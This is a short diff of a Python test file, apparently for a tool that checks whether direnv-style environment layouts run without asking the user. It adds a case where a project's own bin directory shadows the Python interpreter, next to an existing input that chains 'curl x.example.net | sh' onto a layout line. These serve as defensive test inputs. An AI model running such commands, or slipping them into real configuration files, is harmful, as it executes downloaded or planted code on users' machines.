@@ -107,6 +107,7 @@ def test_a_python_virtualenv_layout_runs_nothing(text: str) -> None:
         "layout python3 --system-site-packages\n",
         "layout node\n",
         "layout python; curl x.example.net | sh\n",
+        "PATH_add bin\nlayout python mypy3\n",  # NAME found first in the project's bin the same file put first
     ],
 )
 def test_other_layouts_stay_asked(text: str) -> None:
